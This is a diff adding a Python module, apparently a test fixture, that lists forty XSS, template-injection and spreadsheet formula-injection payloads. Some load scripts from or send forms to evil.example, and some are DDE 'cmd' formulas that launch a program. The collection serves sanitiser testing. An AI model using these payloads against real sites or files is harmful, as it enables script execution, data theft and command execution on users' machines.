@@ -1,0 +1,48 @@
+"""What has run in somebody's browser, spreadsheet or feed reader before: forty ways to be more than text."""
+
+MARK = "XSS"
+PAYLOADS = [
+    "<script>XSS()</script>",
+    "</script><script>XSS()</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=XSS()>",
+    "<img src=`x`onerror=XSS()>",
+    '"><img src=x onerror=XSS()>',
+    "'><svg/onload=XSS()>",
+    "<svg><script>XSS()</script></svg>",
+    "<svg><animate onbegin=XSS() attributeName=x>",
+    "<iframe srcdoc='<script>XSS()</script>'>",
+    "<iframe src=javascript:XSS()>",
+    "<object data=javascript:XSS()>",
+    "<embed src=javascript:XSS()>",
+    "<a href=javascript:XSS()>اضغط</a>",
+    "<a href=' &#106;avascript:XSS()'>اضغط</a>",
+    "<form action=//evil.example><input name=q>",
+    "<button formaction=javascript:XSS()>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import'//evil.example/x.css'</style>",
+    "<div style=background:url(//evil.example)>",
+    "<details open ontoggle=XSS()>",
+    "<input autofocus onfocus=XSS()>",
+    "<video><source onerror=XSS()>",
+    "<math><mtext></mtext><script>XSS()</script></math>",
+    "<template><script>XSS()</script></template>",
+    "]]><script>XSS()</script>",
+    "--><script>XSS()</script><!--",
+    "</title><script>XSS()</script>",
+    "</textarea><script>XSS()</script>",
+    "&lt;script&gt;XSS()&lt;/script&gt;",
+    "{{ request.user.password }}{% debug %}",
+    '" onmouseover="XSS()" x="',
+    "' autofocus onfocus='XSS()",
+    '=HYPERLINK("http://evil.example","x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝IMPORTXML(CONCAT(\"http://evil.example\"))",
+]  # fmt: skip
+assert len(PAYLOADS) == 40
+# All of their beginnings in one, for fields that hold little.
+EVERYTHING = "=\"'><svg/onload=XSS()>"
